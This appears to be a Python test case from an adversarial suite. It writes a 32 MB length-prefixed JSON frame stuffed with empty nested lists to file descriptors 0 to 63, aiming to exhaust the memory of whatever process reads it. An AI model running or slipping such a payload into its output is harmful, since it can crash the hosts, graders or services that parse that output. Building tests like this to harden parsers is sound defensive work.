"""Sends frames of 32 MB, the largest that are read, full of lists that take fifty times as much when read.
Ends as: crash, error, fail, timeout, memory
"""

import contextlib
import os
import struct

SIZE = (1 << 25) - 64


def attack(X, wrong):
    start, end = b'{"id": 1, "answer": {"status": "ok", "value": [', b"[]]}}"
    lists = b"[]," * ((SIZE - len(start) - len(end)) // 3)
    data = memoryview(struct.pack(">I", len(start + lists + end)) + start + lists + end)
    for descriptor in range(64):
        with contextlib.suppress(OSError):
            rest = data
            while rest:
                rest = rest[os.write(descriptor, rest) :]
    return wrong
